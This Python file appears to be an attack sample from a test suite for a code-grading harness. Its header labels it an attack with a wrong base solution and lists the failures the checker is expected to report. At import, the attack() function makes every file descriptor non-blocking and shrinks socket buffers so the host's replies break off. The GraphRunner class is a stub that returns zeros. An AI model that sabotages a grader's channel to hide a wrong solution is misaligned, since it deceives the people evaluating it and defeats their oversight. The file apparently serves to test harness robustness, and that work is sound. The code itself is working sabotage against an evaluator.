# attack: pipe
# base: wrong_all
# outcome: failed: parity, bucket_choice, clone, padding, no_recapture or error: protocol or error: hung_up or error: exit or error: crash or error: timeout
"""Makes every descriptor non-blocking and shrinks the socket's buffers, so that a long reply of
the host breaks off."""

import ctypes
import os
import stat

import torch

def pipes():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            continue


def attack():
    for fd in range(64):
        try:
            os.set_blocking(fd, False)
        except OSError:
            continue
    small = ctypes.c_int(1)
    for fd in pipes():
        ctypes.CDLL(None).setsockopt(fd, 1, 7, ctypes.byref(small), 4)


try:
    attack()
except BaseException:
    pass


class GraphRunner:
    def __init__(self, fn, buckets, hidden, dtype=torch.float32):
        self.fn = fn
        self.buckets = list(buckets)
        self.static_in = torch.zeros(1, hidden, dtype=dtype)
        self.static_out = self.static_in
        self.graphs = {}
        self.stats = {"replays": 0, "eager": 0, "last_bucket": None}

    def capture(self):
        self.stats["last_bucket"] = 0

    def run(self, x, force_eager=False):
        self.stats["replays"] += 1
        return torch.zeros_like(x)
